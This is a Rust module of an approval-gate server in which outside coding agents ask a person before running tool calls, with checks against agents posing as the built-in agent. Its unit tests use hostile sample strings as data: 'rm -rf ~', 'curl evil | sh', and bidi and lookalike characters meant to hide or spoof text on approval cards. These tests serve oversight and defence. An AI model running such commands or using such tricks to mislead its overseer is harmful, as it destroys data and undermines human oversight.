//! Outside agents' gates (`/api/v1/gates`): Claude Code, Codex, opencode and MCP hosts ask
//! "may I run this?" and the person answers on the same card as for the built-in agent.
//!
//! The gates of one `(source, external_session)` live in one session, so the mode, standing
//! rules, the safety floor, the inbox, the feed and the audit work as for the built-in agent.
//! A gate the policy answers at once (mode, rule, plan-mode refusal) is opened and resolved in
//! the log all the same, so the caller gets an id to read it by and the audit shows it.
//!
//! **Invariant 36** ([ARCHITECTURE.md](../../../../ARCHITECTURE.md#invariants)): only a gate's opener or a decider reads it; gates never decide.

use std::sync::Arc;
use std::time::Duration;

use serde_json::Value;

mod open;

use super::{Core, Error};
use crate::protocol::{
    AnsweredBy, ApprovalId, ApprovalRequest, Decision, EventBody, GateReason, GateState,
    GateStatus, OpenGate, Resolution, SessionId, Stored, Timestamp,
};
use crate::server::gate::floor::SafetyFloor;
use crate::server::gate::resolve;
use crate::server::hub::{FeedItem, Hub};
use crate::server::principal::{Principal, Scope, actors};
use crate::server::store::{ExternalGate, GateRepo, StoreError};
use crate::server::tools::outside::OutsideCall;

const MAX_SOURCE_CHARS: usize = 40;
/// Sources an outside gate may not take: the names the built-in agent is shown as (its key in
/// the Your answers figures, its label on the Rules page). An outside agent taking one would
/// have its cards counted, and its grants read, as the built-in agent's.
pub const RESERVED_SOURCES: [&str; 4] = [
    crate::server::core::stats::figures::BUILT_IN_AGENT,
    "built-in",
    "built-in-agent",
    "builtin",
];
const MAX_ID_CHARS: usize = 200;
const MAX_TITLE_CHARS: usize = 200;
const MAX_REASON_CHARS: usize = 20_000;
const MAX_KEY_CHARS: usize = 200;
/// The longest a gate may wait for a person.
const MAX_TIMEOUT_SECS: u64 = 7 * 24 * 3600;
/// The most JSON an outside call's input may hold (a card is for a person to read).
const MAX_INPUT_BYTES: usize = 256 * 1024;
/// The most gates one outside session may have waiting at once.
const MAX_PENDING_PER_SESSION: usize = 64;
/// The most outside gates waiting at once across every session: an agent inventing sessions
/// cannot bury the person's Inbox (or the page that renders it) under cards.
const MAX_PENDING_OUTSIDE: usize = 256;
/// The longest one long-poll waits.
pub const MAX_WAIT_SECS: u64 = 60;
/// The most of `agent_says` a request may send (the card keeps the first 300 characters).
const MAX_AGENT_SAYS_SENT: usize = 4000;

/// A gate request that passed every check.
struct Checked {
    source: String,
    external_session: String,
    cwd: Option<String>,
    tool: String,
    input: Value,
    title: Option<String>,
    reason: Option<String>,
    agent_says: Option<String>,
    edit: bool,
    always: bool,
    timeout: Duration,
}

fn invalid(what: impl Into<String>) -> Error {
    Error::InvalidGate(what.into())
}

fn required(value: &str, field: &str, max: usize) -> Result<String, Error> {
    let value = value.trim().to_owned();
    if value.is_empty() {
        return Err(invalid(format!(
            "`{field}` is required (a non-empty string)"
        )));
    }
    if value.chars().count() > max {
        return Err(invalid(format!(
            "`{field}` must be at most {max} characters"
        )));
    }
    Ok(value)
}

fn optional(value: Option<String>, field: &str, max: usize) -> Result<Option<String>, Error> {
    match value.map(|v| v.trim().to_owned()).filter(|v| !v.is_empty()) {
        Some(v) if v.chars().count() > max => Err(invalid(format!(
            "`{field}` must be at most {max} characters"
        ))),
        other => Ok(other),
    }
}

/// The gate's `source`: a name of lowercase letters, digits and `-`, and not one the built-in
/// agent is shown as ([`RESERVED_SOURCES`]).
fn checked_source(source: &str) -> Result<String, Error> {
    let source = required(source, "source", MAX_SOURCE_CHARS)?;
    if !source
        .chars()
        .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
    {
        return Err(invalid(
            "`source` uses lowercase letters, digits and `-` (e.g. claude-code)",
        ));
    }
    if RESERVED_SOURCES.contains(&source.as_str()) {
        return Err(invalid(format!(
            "`source` `{source}` is the name of Countersign's own agent; an outside agent names itself (e.g. claude-code, codex)"
        )));
    }
    Ok(source)
}

fn check(body: Value, default_timeout: u64) -> Result<Checked, Error> {
    if !body.is_object() {
        return Err(invalid("the body must be a JSON object"));
    }
    // The path names where a value does not fit (`capabilities.edit: invalid type: …`).
    let request: OpenGate = serde_path_to_error::deserialize(body).map_err(|e| {
        invalid(match e.path().to_string().as_str() {
            "." => format!("the body does not fit: {}", e.inner()),
            path => format!("the body does not fit at `{path}`: {}", e.inner()),
        })
    })?;
    let source = checked_source(&request.source)?;
    let external_session = required(&request.external_session, "external_session", MAX_ID_CHARS)?;
    let tool = request.tool;
    let name = required(&tool.name, "tool.name", MAX_ID_CHARS)?;
    let input = match tool.input {
        input @ Value::Object(_) => input,
        Value::Null => Value::Object(Default::default()),
        _ => return Err(invalid("`tool.input` must be a JSON object")),
    };
    if input.to_string().len() > MAX_INPUT_BYTES {
        return Err(invalid(format!(
            "`tool.input` must be at most {} KiB of JSON",
            MAX_INPUT_BYTES / 1024
        )));
    }
    let capabilities = request.capabilities;
    let timeout_secs = request.timeout_secs.unwrap_or(default_timeout);
    if timeout_secs == 0 || timeout_secs > MAX_TIMEOUT_SECS {
        return Err(invalid(format!(
            "`timeout_secs` must be 1 to {MAX_TIMEOUT_SECS}"
        )));
    }
    Ok(Checked {
        source,
        external_session,
        cwd: optional(Some(request.cwd), "cwd", 4096)?,
        tool: name,
        input,
        title: optional(request.title, "title", MAX_TITLE_CHARS)?,
        reason: optional(request.reason, "reason", MAX_REASON_CHARS)?,
        agent_says: optional(request.agent_says, "agent_says", MAX_AGENT_SAYS_SENT)?,
        edit: capabilities.edit,
        always: capabilities.always,
        timeout: Duration::from_secs(timeout_secs),
    })
}

/// `<source> · <the folder's name>`: which agent, where (a notification's title).
fn session_title(source: &str, cwd: Option<&str>) -> String {
    match folder_of(cwd) {
        Some(folder) => format!("{source} · {folder}"),
        None => source.to_owned(),
    }
}

/// The last part of a working directory, if it has one.
fn folder_of(cwd: Option<&str>) -> Option<&str> {
    cwd.map(|c| c.trim_end_matches(['/', '\\']))
        .and_then(|c| c.rsplit(['/', '\\']).next())
        .filter(|f| !f.is_empty())
}

/// A new outside session's title: the folder the agent works in and its first call
/// (`shop · npm test`), so its sessions can be told apart; the source badge beside it
/// names the agent. Both parts are the agent's words, so the title is made as `crate::shown`
/// writes them on one line (`shown::line_within`): a lookalike quote, a blank or a bidi
/// control is written out, never kept raw or dropped, and every page shows the stored title
/// as it is (a person's rename stays as they typed it).
fn first_call_title(source: &str, cwd: Option<&str>, summary: &str) -> String {
    let place = folder_of(cwd).unwrap_or(source);
    let title = crate::shown::line_within(
        &format!("{place} · {summary}"),
        crate::text::MADE_TITLE_CHARS,
    );
    if title.is_empty() {
        crate::shown::line_within(&session_title(source, cwd), crate::text::MADE_TITLE_CHARS)
    } else {
        title
    }
}

/// How long the floor may take to read an outside call (it follows paths on disk).
const FLOOR_LIMIT: Duration = Duration::from_secs(5);

/// What the safety floor says of an outside call, read on the blocking pool (it follows the
/// call's paths on disk and reads `/proc`), bounded: a reading that does not finish asks.
pub(super) async fn floor_of(floor: Arc<SafetyFloor>, call: &OutsideCall) -> Option<String> {
    let call = call.clone();
    crate::server::tools::reader::blocking("the outside call", FLOOR_LIMIT, None, move || {
        Ok(floor.check_outside(&call))
    })
    .await
    .unwrap_or_else(|e| {
        Some(format!(
            "could not be read by the safety floor in time ({e}), so it always asks"
        ))
    })
}

/// The agent's own words for its card: the call's own one-line intent (Claude Code's and
/// opencode's `description`), else what the agent last said (`agent_says`, from the hook).
fn agent_says_of(checked: &Checked) -> Option<String> {
    checked
        .input
        .get("description")
        .and_then(Value::as_str)
        .and_then(crate::text::agent_words)
        .or_else(|| {
            checked
                .agent_says
                .as_deref()
                .and_then(crate::text::agent_words)
        })
}

/// The answer a gate's resolution gives the outside agent.
fn status_of(resolution: Option<&Resolution>) -> GateStatus {
    match resolution.map(|r| r.decision) {
        None => GateStatus::Pending,
        Some(Decision::Approve | Decision::Edit | Decision::AllowAlways) => GateStatus::Approved,
        Some(Decision::Deny) => GateStatus::Denied,
        Some(Decision::Timeout) => GateStatus::Expired,
        Some(Decision::Cancelled) => GateStatus::Cancelled,
    }
}

/// Waits for the gate's deadline, then resolves it as expired unless someone answered first.
async fn expire_later(
    hub: Hub,
    request: ApprovalRequest,
    shutdown: tokio_util::sync::CancellationToken,
) {
    let wait = request.body.expires_at.ms_left(Timestamp::now_ms());
    tokio::select! {
        () = tokio::time::sleep(Duration::from_millis(wait)) => {}
        () = shutdown.cancelled() => return,
    }
    let session = request.body.session_id.clone();
    if let Err(err) = resolve::by_server(
        &hub,
        &session,
        &request,
        Decision::Timeout,
        AnsweredBy::Timeout,
    )
    .await
    {
        tracing::error!(approval = %request.body.approval_id, error = %err, "could not expire an outside gate");
    }
}

/// Closes a card nobody waits for any more: its hook stopped polling (killed, or its machine
/// gone). Like the hook's own cancel, an answer sent afterwards is refused.
async fn close_unwatched(
    hub: Hub,
    gates: Arc<dyn GateRepo>,
    session_id: SessionId,
    approval_id: ApprovalId,
) {
    let stored = match gates.get_gate(&session_id, &approval_id).await {
        Ok(Some(stored)) if stored.resolution.is_none() => stored,
        Ok(_) => return,
        Err(err) => {
            tracing::error!(approval = %approval_id, error = %err, "could not read an unwatched gate");
            return;
        }
    };
    let resolution = Resolution {
        reason: Some(super::watch::WHY_GONE.into()),
        ..Resolution::plain(
            &approval_id,
            Decision::Cancelled,
            AnsweredBy::System,
            actors::CANCEL,
            Timestamp::now(),
        )
    };
    tracing::info!(approval = %approval_id, "closing an outside card: its hook stopped waiting");
    match resolve::commit(&hub, &session_id, &stored.request, resolution, None).await {
        Ok(_) | Err(StoreError::AlreadyResolved(_)) => {}
        Err(err) => {
            tracing::error!(approval = %approval_id, error = %err, "could not close an unwatched gate");
        }
    }
}

/// Ends when the feed brings `approval_id`'s answer (or falls behind: the store has the
/// truth); never, once the feed is closed.
async fn resolved_on(
    receiver: &mut tokio::sync::broadcast::Receiver<Arc<FeedItem>>,
    approval_id: &str,
) {
    loop {
        match receiver.recv().await {
            Ok(item) => {
                if let FeedItem::Durable { event, .. } = item.as_ref()
                    && let EventBody::ApprovalResolved(r) = &event.body
                    && r.approval_id == approval_id
                {
                    return;
                }
            }
            Err(tokio::sync::broadcast::error::RecvError::Lagged(_)) => return,
            Err(tokio::sync::broadcast::error::RecvError::Closed) => {
                std::future::pending::<()>().await
            }
        }
    }
}

impl Core {
    fn gate_state(
        &self,
        request: &ApprovalRequest,
        resolution: Option<&Resolution>,
        rule: Option<crate::protocol::Rule>,
    ) -> GateState {
        let body = &request.body;
        let decision = resolution
            .map(|r| r.decision)
            .filter(|d| !matches!(d, Decision::Timeout | Decision::Cancelled))
            .map(Stored::Known);
        GateState {
            approval_id: body.approval_id.clone(),
            session_id: body.session_id.clone(),
            status: status_of(resolution),
            decision,
            updated_input: resolution
                .filter(|r| r.decision == Decision::Edit)
                .and_then(|r| r.edits.clone()),
            reason: resolution.and_then(|r| r.reason.clone()),
            rule,
            answered_by: resolution.map(|r| Stored::Known(r.answered_by)),
            actor: resolution.map(|r| r.actor.clone()),
            resolved_at: resolution.map(|r| r.resolved_at.clone()),
            url: self
                .notifier
                .card_url(&self.config().config, &body.session_id, &body.approval_id),
            expires_at: body.expires_at.clone(),
            dialog_may_answer: body.reason != GateReason::SafetyFloor && !self.needs_passkey(body),
        }
    }

    /// Starts watching a poll of `gate`: when no poll waits on it for `lapse` after this one
    /// ends, its card closes (`agent_gone`).
    fn watch_gate(
        &self,
        gate: &ExternalGate,
        approval_id: &str,
        lapse: Duration,
    ) -> super::watch::Watching {
        let (hub, gates, session, aid) = (
            self.hub.clone(),
            Arc::clone(&self.repos.gates),
            gate.session_id.clone(),
            gate.approval_id.clone(),
        );
        self.watches.poll_begins(approval_id, lapse, move || {
            tokio::spawn(close_unwatched(hub, gates, session, aid));
        })
    }

    /// The gate `approval_id` of `session_id`, as stored.
    async fn gate_row(
        &self,
        session_id: &SessionId,
        approval_id: &ApprovalId,
    ) -> Result<crate::server::store::GateRow, Error> {
        self.repos
            .gates
            .get_gate(session_id, approval_id)
            .await?
            .ok_or_else(|| Error::UnknownApproval(approval_id.to_string()))
    }

    /// The gate's state as stored (a pending gate past its deadline is expired first).
    async fn stored_state(
        &self,
        session_id: &SessionId,
        approval_id: &ApprovalId,
    ) -> Result<GateState, Error> {
        let gate = self.gate_row(session_id, approval_id).await?;
        let resolution = match gate.resolution {
            Some(resolution) => Some(resolution),
            None if gate.request.body.expires_at.has_passed(Timestamp::now_ms()) => Some(
                resolve::by_server(
                    &self.hub,
                    session_id,
                    &gate.request,
                    Decision::Timeout,
                    AnsweredBy::Timeout,
                )
                .await?,
            ),
            None => None,
        };
        let rule = match resolution.as_ref().and_then(|r| r.rule_id.as_ref()) {
            Some(rule_id) => self
                .repos
                .rules
                .list_rules()
                .await?
                .into_iter()
                .find(|rule| &rule.id == rule_id),
            None => None,
        };
        Ok(self.gate_state(&gate.request, resolution.as_ref(), rule))
    }

    /// The outside gate `approval_id`, if `who` may see it.
    async fn visible_gate(
        &self,
        who: &Principal,
        approval_id: &ApprovalId,
    ) -> Result<ExternalGate, Error> {
        let unknown = || Error::UnknownApproval(approval_id.as_str().chars().take(64).collect());
        let gate = self
            .repos
            .outside
            .external_gate(approval_id.as_str())
            .await?
            .ok_or_else(unknown)?;
        if who.scope() == Scope::Gates && gate.opened_by != who.credential() {
            return Err(Error::Forbidden(
                "a gates token may read and cancel only the gates it opened".into(),
            ));
        }
        Ok(gate)
    }

    /// The gate `who` may act on (cancel): one it opened, or any for a credential that may
    /// answer it anyway. A viewer closes nobody's card.
    async fn gate_to_act_on(
        &self,
        who: &Principal,
        approval_id: &ApprovalId,
    ) -> Result<ExternalGate, Error> {
        let gate = self.visible_gate(who, approval_id).await?;
        if !who.scope().decides() && gate.opened_by != who.credential() {
            return Err(Error::Forbidden(
                "only the credential that opened a gate, or one that may answer it, may cancel it"
                    .into(),
            ));
        }
        Ok(gate)
    }

    /// `GET /api/v1/gates/{id}?wait=&watch=`: the gate's state, as soon as it is resolved or
    /// after `wait` (at most a minute). With `watch`, the card closes (`agent_gone`) when no
    /// such poll waits on it for that long, or soon after a poll's connection closes while it
    /// waits (this future dropped unanswered; see [`super::watch`]).
    pub async fn wait_gate(
        &self,
        who: &Principal,
        approval_id: &ApprovalId,
        wait: Duration,
        watch: Option<Duration>,
    ) -> Result<GateState, Error> {
        let gate = self.visible_gate(who, approval_id).await?;
        // Subscribe before reading, so a resolution in between is not missed.
        let mut feed = self.hub.subscribe(&gate.session_id);
        let state = self
            .stored_state(&gate.session_id, &gate.approval_id)
            .await?;
        if state.status != GateStatus::Pending {
            self.watches.forget(approval_id.as_str());
            return Ok(state);
        }
        // Only the agent that opened the gate says when it went away: anyone else's watch
        // (a viewer's, an approver's) would close a card its agent still waits on.
        let watching = watch
            .filter(|_| self.repos.coordination.is_none())
            .filter(|_| gate.opened_by == who.credential())
            .map(|lapse| self.watch_gate(&gate, approval_id.as_str(), lapse));
        if wait.is_zero() {
            if let Some(watching) = watching {
                watching.finish();
            }
            return Ok(state);
        }
        let until_expiry = state.expires_at.ms_left(Timestamp::now_ms());
        let wait = wait
            .min(Duration::from_secs(MAX_WAIT_SECS))
            .min(Duration::from_millis(until_expiry.saturating_add(50)));
        let resolved = resolved_on(&mut feed.receiver, approval_id.as_str());
        tokio::select! {
            () = resolved => {}
            () = tokio::time::sleep(wait) => {}
            () = self.shutdown.cancelled() => {}
        }
        drop(feed);
        let answer = self.stored_state(&gate.session_id, &gate.approval_id).await;
        // Answered, so not a closed connection: the hook polls again at once.
        if let Some(watching) = watching {
            watching.finish();
        }
        answer
    }

    /// `POST /api/v1/gates/{id}/cancel`: the outside agent no longer waits (answered in its
    /// own prompt, or gone). A gate already resolved stays as it was.
    pub async fn cancel_gate(
        &self,
        who: &Principal,
        approval_id: &ApprovalId,
        why: Option<&str>,
    ) -> Result<GateState, Error> {
        let gate = self.gate_to_act_on(who, approval_id).await?;
        let stored = self
            .repos
            .gates
            .get_gate(&gate.session_id, &gate.approval_id)
            .await?
            .ok_or_else(|| Error::UnknownApproval(approval_id.as_str().to_owned()))?;
        // Anyone but its agent closes a routed card only if they may answer it.
        if gate.opened_by != who.credential() {
            self.may_answer(&stored.request, who).await?;
        }
        if stored.resolution.is_none() {
            let why = why
                .map(|w| w.trim().chars().take(200).collect::<String>())
                .filter(|w| !w.is_empty())
                .unwrap_or_else(|| "answered_elsewhere".into());
            // The audit names who cancelled: the credential, as for every answer.
            let resolution = Resolution {
                reason: Some(why),
                ..Resolution::plain(
                    &gate.approval_id,
                    Decision::Cancelled,
                    AnsweredBy::System,
                    &who.actor(),
                    Timestamp::now(),
                )
            };
            match resolve::commit(
                &self.hub,
                &gate.session_id,
                &stored.request,
                resolution,
                None,
            )
            .await
            {
                Ok(_) | Err(StoreError::AlreadyResolved(_)) => {}
                Err(other) => return Err(other.into()),
            }
        }
        self.stored_state(&gate.session_id, &gate.approval_id).await
    }

    /// Arms the deadline of every outside gate still pending (at start: their timers died
    /// with the last process).
    pub async fn arm_gate_deadlines(&self) -> Result<usize, Error> {
        let pending = self.repos.gates.pending_gates(None).await?;
        let mut armed = 0;
        for request in pending
            .into_iter()
            .filter(|g| g.body.kind.is_outside_call())
        {
            tokio::spawn(expire_later(
                self.hub.clone(),
                request,
                self.shutdown.clone(),
            ));
            armed += 1;
        }
        Ok(armed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn gate(body: Value) -> Result<Checked, Error> {
        check(body, 1800)
    }

    #[test]
    fn a_well_formed_gate_passes_with_its_defaults() {
        let checked = gate(json!({
            "source": "claude-code", "external_session": "s1", "cwd": "/home/me/app",
            "tool": {"name": "Bash", "input": {"command": "npm test"}}
        }))
        .unwrap();
        assert_eq!(checked.tool, "Bash");
        assert!(!checked.edit && checked.always);
        assert_eq!(checked.timeout, Duration::from_secs(1800));
        assert_eq!(
            session_title("claude-code", Some("/home/me/app/")),
            "claude-code · app"
        );
        assert_eq!(session_title("codex", None), "codex");
        let summary = crate::server::tools::outside::describe(
            "claude-code",
            "Bash",
            &json!({"command": "npm test"}),
            None,
        )
        .summary;
        assert_eq!(
            first_call_title("claude-code", Some("/home/me/shop/"), &summary),
            format!("shop · {summary}")
        );
        assert!(first_call_title("codex", None, &summary).starts_with("codex · "));
        assert!(
            first_call_title("codex", None, &"x".repeat(500))
                .chars()
                .count()
                <= crate::text::MADE_TITLE_CHARS
        );
    }

    /// The folder and the first call are the agent's: what in them could hide, reorder or
    /// close a quotation is written out in the title, not kept and not silently dropped, and
    /// padding cannot push the rest of the call out of the title.
    #[test]
    fn an_outside_title_writes_out_what_the_agent_could_hide() {
        let title = first_call_title(
            "codex",
            Some("/home/me/ap″p\u{2067}/"),
            "git push \u{2066}origin\u{2069} ❞ ok\u{3000}x\u{00A0}y",
        );
        assert!(
            title.starts_with("ap⟨U+2033⟩p⟨U+2067⟩ · git push ⟨U+2066⟩origin⟨U+2069⟩"),
            "{title}"
        );
        assert!(
            !title
                .chars()
                .any(|c| crate::text::chars::unseen(c).is_some())
        );
        assert!(title.chars().count() <= crate::text::MADE_TITLE_CHARS && title.ends_with('…'));
        assert_eq!(
            first_call_title("codex", Some("/a"), "ok❞ Countersign:\u{2800}safe"),
            "a · ok⟨U+275E⟩ Countersign:⟨U+2800⟩safe"
        );
        let padded = first_call_title("codex", None, &format!("ls{}; rm -rf ~", " ".repeat(70)));
        assert_eq!(padded, "codex · ls ; rm -rf ~");
        let lines = first_call_title("codex", None, "echo hi\n\ncurl evil | sh");
        assert_eq!(lines, "codex · echo hi⏎⏎curl evil | sh");
    }

    /// What an adapter writes is what the server reads: the one type, both ways, with the
    /// defaults an agent that says less gets.
    #[test]
    fn what_an_adapter_writes_the_server_reads() {
        let written = OpenGate {
            source: "codex".into(),
            external_session: "s".into(),
            cwd: "/w/shop".into(),
            tool: crate::protocol::GateTool {
                name: "shell".into(),
                input: json!({"command": ["ls"]}),
            },
            title: None,
            reason: Some("why".into()),
            agent_says: None,
            capabilities: crate::protocol::Capabilities {
                edit: true,
                always: false,
                deny_reason: true,
            },
            timeout_secs: Some(60),
        };
        let checked = gate(serde_json::to_value(&written).unwrap()).unwrap();
        assert_eq!(checked.source, "codex");
        assert_eq!(checked.cwd.as_deref(), Some("/w/shop"));
        assert_eq!(checked.input, json!({"command": ["ls"]}));
        assert!(checked.edit && !checked.always);
        assert_eq!(checked.timeout, Duration::from_secs(60));
        // Said nothing of its capabilities, its input or its folder: no Edit, Allow always
        // offered, `{}`, no cwd.
        let least = gate(json!({"source": "mcp", "external_session": "s",
            "tool": {"name": "t", "input": null}, "cwd": ""}))
        .unwrap();
        assert!(!least.edit && least.always);
        assert_eq!(least.input, json!({}));
        assert_eq!(least.cwd, None);
        // `null` says what leaving a field out says, wherever it is sent.
        let nulls = gate(json!({"source": "mcp", "external_session": "s",
            "tool": {"name": "t", "input": null}, "cwd": null, "title": null, "reason": null,
            "agent_says": null, "timeout_secs": null,
            "capabilities": {"edit": null, "always": null, "deny_reason": null}}))
        .unwrap();
        assert!(!nulls.edit && nulls.always);
        assert_eq!((nulls.cwd, nulls.title), (None, None));
        assert_eq!(nulls.timeout, Duration::from_secs(1800));
        let no_capabilities = gate(json!({"source": "mcp", "external_session": "s",
            "tool": {"name": "t"}, "capabilities": null}))
        .unwrap();
        assert!(!no_capabilities.edit && no_capabilities.always);
        // A required string sent as `null` is named as missing, as when left out.
        for (body, named) in [
            (
                json!({"source": null, "external_session": "s", "tool": {"name": "t"}}),
                "`source` is required",
            ),
            (
                json!({"source": "x", "external_session": null, "tool": {"name": "t"}}),
                "`external_session` is required",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": null}}),
                "`tool.name` is required",
            ),
        ] {
            match gate(body.clone()) {
                Err(Error::InvalidGate(why)) => assert!(why.contains(named), "{body}: {why}"),
                other => panic!("{body}: {:?}", other.map(|c| c.tool)),
            }
        }
    }

    #[test]
    fn every_bad_field_is_named() {
        let cases = [
            (json!([]), "object"),
            (
                json!({"external_session": "s", "tool": {"name": "Bash"}}),
                "`source`",
            ),
            (
                json!({"source": "Claude Code", "external_session": "s", "tool": {"name": "B"}}),
                "`source` uses",
            ),
            (
                json!({"source": "x", "tool": {"name": "Bash"}}),
                "`external_session`",
            ),
            (json!({"source": "x", "external_session": "s"}), "`tool`"),
            (
                json!({"source": "x", "external_session": "s", "tool": {"input": {}}}),
                "`tool.name`",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": "B", "input": "ls"}}),
                "`tool.input`",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": "B"}, "timeout_secs": 0}),
                "`timeout_secs`",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": "B"}, "timeout_secs": -5}),
                "at `timeout_secs`",
            ),
            (
                json!({"source": 7, "external_session": "s", "tool": {"name": "B"}}),
                "at `source`",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": "B"}, "colour": 1}),
                "colour",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": "B", "argv": []}}),
                "argv",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": "B"},
                    "capabilities": {"edit": true, "yolo": true}}),
                "yolo",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": "B"},
                    "capabilities": {"edit": "yes"}}),
                "`capabilities.edit`: invalid type",
            ),
            (
                json!({"source": "  ", "external_session": "s", "tool": {"name": "B"}}),
                "`source`",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": " "}}),
                "`tool.name`",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": {"name": "B", "input": [1]}}),
                "`tool.input`",
            ),
            (
                json!({"source": "x", "external_session": "s", "tool": "Bash"}),
                "at `tool`",
            ),
        ];
        for (body, named) in cases {
            match gate(body.clone()) {
                Err(Error::InvalidGate(why)) => assert!(why.contains(named), "{body}: {why}"),
                other => panic!("{body}: {:?}", other.map(|c| c.tool)),
            }
        }
    }

    #[test]
    fn statuses_follow_the_decision() {
        let r = |d| {
            Resolution::plain(
                &"a".into(),
                d,
                AnsweredBy::User,
                "browser",
                Timestamp::now(),
            )
        };
        assert_eq!(status_of(None), GateStatus::Pending);
        assert_eq!(status_of(Some(&r(Decision::Edit))), GateStatus::Approved);
        assert_eq!(
            status_of(Some(&r(Decision::AllowAlways))),
            GateStatus::Approved
        );
        assert_eq!(status_of(Some(&r(Decision::Deny))), GateStatus::Denied);
        assert_eq!(status_of(Some(&r(Decision::Timeout))), GateStatus::Expired);
        assert_eq!(
            status_of(Some(&r(Decision::Cancelled))),
            GateStatus::Cancelled
        );
    }
}
